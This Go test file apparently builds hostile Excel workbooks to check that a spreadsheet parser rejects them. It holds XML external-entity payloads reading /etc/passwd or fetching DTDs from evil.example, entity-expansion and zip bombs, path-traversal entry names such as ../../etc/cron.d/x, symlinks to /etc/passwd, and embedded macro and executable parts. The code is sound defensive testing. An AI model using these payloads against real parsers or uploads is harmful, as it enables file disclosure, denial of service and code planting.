package hostile

import (
	"archive/zip"
	"fmt"
	"io/fs"
	"strings"
	"testing"
)

const (
	outside = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`
	network = `<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd">`
	params  = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]>`
	laughs  = `<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>`
	square  = `<!DOCTYPE l [<!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">]>` // one entity, ten thousand times
)

// rows is a sheet with these rows.
func rows(s string) string { return `<worksheet><sheetData>` + s + `</sheetData></worksheet>` }

// inBook is the honest book with something put in place of something.
func inBook(was, is string) func() string {
	return func() string { return strings.Replace(Honest()[bookPart], was, is, 1) }
}

// books are workbooks whose whole is bad: parts that are missing, hide others, or unpack to too much.
func books() map[string]maker {
	return map[string]maker{
		"a part that is no workbook's": part(bookPart, just("")),
		"no relations":                 part(relsPart, just("")),
		"no sheet":                     part(sheetPart, just("")),
		"shared texts missing":         part(textsPart, just("")),
		"macros":                       part("xl/vbaProject.bin", just("x")),
		"macros in capitals":           part("xl/VBAPROJECT.BIN", just("x")),
		"macros in another folder":     part("xl/embeddings/vbaProject.bin", just("x")),
		"macros of Excel 4":            part("xl/macrosheets/sheet1.xml", just("<xm:macrosheet/>")),
		"macros of a dialog":           part("xl/dialogsheets/sheet1.xml", just("<dialogsheet/>")),
		"an ActiveX control":           part("xl/activeX/activeX1.bin", just("\xd0\xcf\x11\xe0")),
		"a document inside (OLE)":      part("xl/embeddings/oleObject1.bin", just("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")),
		"a program beside":             part("xl/printerSettings/run.exe", just("MZ\x90")),
		"a macro-free name, a macro's kind": part("[Content_Types].xml", just(`<Types><Override PartName="/xl/workbook.xml"`+
			` ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>`)),
		"a relation abroad": part(relsPart, just(`<Relationships><Relationship Id="rId1" Type="http://x/worksheet"`+
			` TargetMode="External" Target="https://evil.example/x.xml"/></Relationships>`)),
		"a relation out of the file": part(relsPart, just(`<Relationships><Relationship Id="rId1" Type="http://x/worksheet"`+
			` Target="../../../etc/passwd"/></Relationships>`)),
		"a relation to the system":    part(relsPart, just(`<Relationships><Relationship Id="rId1" Type="http://x/worksheet" Target="file:///etc/passwd"/></Relationships>`)),
		"a relation to itself":        part(relsPart, just(`<Relationships><Relationship Id="rId1" Type="http://x/worksheet" Target="_rels/workbook.xml.rels"/></Relationships>`)),
		"a sheet that is the book":    part(relsPart, just(`<Relationships><Relationship Id="rId1" Type="http://x/worksheet" Target="workbook.xml"/></Relationships>`)),
		"hidden sheets alone":         part(bookPart, inBook("<sheet ", `<sheet state="veryHidden" `)),
		"a sheet of another relation": part(bookPart, inBook("rId1", "rId2")),
		"a sheet without a relation":  part(bookPart, inBook(` r:id="rId1"`, "")),
		"a thousand sheets":           part(bookPart, inBook("<sheets>", "<sheets>"+strings.Repeat(`<sheet name="x" r:id="rId1"/>`, 1000))),
		"a zip in a zip": func(t testing.TB) []byte {
			return Book(t, map[string]string{bookPart: "", "inner.xlsx": string(Book(t, nil))})
		},
		"a texts bomb":           part(textsPart, func() string { return "<sst><si><t>" + strings.Repeat(" ", 40<<20) + "</t></si></sst>" }),
		"a sheet bomb":           part(sheetPart, func() string { return rows(strings.Repeat(`<row r="1"/>`, 1<<20)) }),
		"a bomb that stays low":  part(sheetPart, func() string { return rows(strings.Repeat("<row></row>", 2<<20)) }),
		"a bomb in another part": part("xl/media/image1.png", func() string { return strings.Repeat("\x00", 40<<20) }),
		"a bomb of styles":       part("xl/styles.xml", func() string { return "<styleSheet>" + strings.Repeat("<xf/>", 8<<20) + "</styleSheet>" }),
		"a bomb of many parts": book(func() map[string]string {
			out := map[string]string{}
			for i := range 40 {
				out[fmt.Sprintf("xl/media/%d.png", i)] = strings.Repeat("\x00", 1<<20)
			}
			return out
		}),
		"many texts":            part(textsPart, func() string { return "<sst>" + strings.Repeat("<si/>", 250_000) + "</sst>" }),
		"many pieces of a text": part(textsPart, func() string { return "<sst><si>" + strings.Repeat("<r><t>ha</t></r>", 900_000) + "</si></sst>" }),
		"many rows":             part(sheetPart, func() string { return rows(strings.Repeat(`<row><c t="inlineStr"><is><t>x</t></is></c></row>`, 3000)) }),
		"a long text shared by many": book(func() map[string]string {
			return map[string]string{
				textsPart: "<sst><si><t>" + strings.Repeat("x", 3900) + "</t></si></sst>",
				sheetPart: rows(strings.Repeat("<row>"+strings.Repeat(`<c t="s"><v>0</v></c>`, 100)+"</row>", 1900)),
			}
		}),
		"two thousand parts and more": book(func() map[string]string {
			out := map[string]string{}
			for i := range 3000 {
				out[fmt.Sprintf("x/%d", i)] = "x"
			}
			return out
		}),
	}
}

// parts are workbooks of which one part that is read is bad, for each of the four.
func parts() map[string]maker {
	out := make(map[string]maker)
	for name, p := range map[string]string{"the book": bookPart, "the texts": textsPart, "the sheet": sheetPart, "the relations": relsPart} {
		body := Honest()[p]
		plain := body[strings.LastIndex(body, "?>")+1:]
		plain = strings.TrimPrefix(plain, ">")
		for what, make := range map[string]func() string{
			"an entity from outside in ":      just(outside + plain),
			"a type from the network in ":     just(network + plain),
			"an entity of the type's own in ": just(params + plain),
			"laughter in ":                    just(laughs + strings.Replace(plain, ">", ">&c;", 1)),
			"one entity many times in ":       func() string { return square + strings.Replace(plain, ">", ">"+strings.Repeat("&a;", 10_000), 1) },
			"an entity nobody knows in ":      just(strings.Replace(plain, ">", ">&who;", 1)),
			"depth in ":                       func() string { return strings.Repeat("<a>", 1<<20) },
			"a tag without end in ":           func() string { return "<a " + strings.Repeat(`b="c" `, 1<<20) },
			"a name without end in ":          func() string { return "<" + strings.Repeat("a", 1<<20) },
			"a value without end in ":         func() string { return `<a b="` + strings.Repeat("c", 1<<20) },
			"cut short: ":                     just(body[:len(body)-9]),
			"crossed tags in ":                just("<a><b></a></b>"),
			"two roots' ends in ":             just(plain + "</a>"),
			"another script in ":              just(`<?xml version="1.0" encoding="UTF-16"?>` + plain),
			"a script nobody has in ":         just(`<?xml version="1.0" encoding="x-evil"?>` + plain),
			"a remark without end in ":        func() string { return "<!--" + strings.Repeat("x", 1<<20) },
			"a plain section without end in ": func() string { return "<a><![CDATA[" + strings.Repeat("x", 1<<20) },
			"an instruction without end in ":  func() string { return "<?x " + strings.Repeat("y", 1<<20) },
			"a reference to no character in ": just(strings.Replace(plain, ">", ">&#xFFFFFFFF;", 1)),
			"a figure nought in ":             just(strings.Replace(plain, ">", ">&#0;", 1)),
		} {
			out[what+name] = part(p, make)
		}
	}
	return out
}

// names are workbooks with a part under a name or a header that no program writes.
func names() map[string]maker {
	link := zip.FileHeader{Name: "x", Method: zip.Store}
	link.SetMode(fs.ModeSymlink | 0o777)
	device := zip.FileHeader{Name: "x", Method: zip.Store}
	device.SetMode(fs.ModeDevice | 0o666)
	pipe := zip.FileHeader{Name: "x", Method: zip.Store}
	pipe.SetMode(fs.ModeNamedPipe | 0o666)
	out := map[string]maker{
		"twice the same part":       beside(zip.FileHeader{Name: sheetPart, Method: zip.Store}, ""),
		"twice, once from the root": beside(zip.FileHeader{Name: "/" + sheetPart, Method: zip.Store}, ""),
		"twice, once in capitals":   beside(zip.FileHeader{Name: "XL/WORKBOOK.XML", Method: zip.Store}, ""),
		"a password":                beside(zip.FileHeader{Name: "x", Method: zip.Store, Flags: 1}, ""),
		"a strong password":         beside(zip.FileHeader{Name: "x", Method: zip.Store, Flags: 1 | 1<<6}, ""),
		"an unknown packing":        beside(zip.FileHeader{Name: "x", Method: 99}, ""),
		"a packing of old":          beside(zip.FileHeader{Name: "x", Method: 6}, ""),
		"a packing that is slow":    beside(zip.FileHeader{Name: "x", Method: 14}, ""),
		"2^63 bytes":                beside(zip.FileHeader{Name: "x", Method: zip.Deflate, UncompressedSize64: 1 << 63}, ""),
		"2^64-1 bytes":              beside(zip.FileHeader{Name: "x", Method: zip.Deflate, UncompressedSize64: 1<<64 - 1}, ""),
		"2^32 bytes":                beside(zip.FileHeader{Name: "x", Method: zip.Deflate, UncompressedSize64: 1 << 32}, ""),
		"a link":                    beside(link, "/etc/passwd"),
		"a device":                  beside(device, ""),
		"a pipe":                    beside(pipe, ""),
	}
	for what, name := range map[string]string{
		"a way out":              "../../etc/cron.d/x",
		"a way out in the end":   "xl/..",
		"a way out backwards":    `xl\..\x`,
		"a drive":                `C:\windows\x`,
		"a zero in a name":       "xl/a\x00.xml",
		"a line in a name":       "xl/a\nb.xml",
		"a name that is no text": "xl/\xff\xfe.xml",
		"a name without end":     strings.Repeat("a", 60_000),
		"a name of nothing":      "",
	} {
		out[what] = beside(zip.FileHeader{Name: name, Method: zip.Store}, "x")
	}
	return out
}
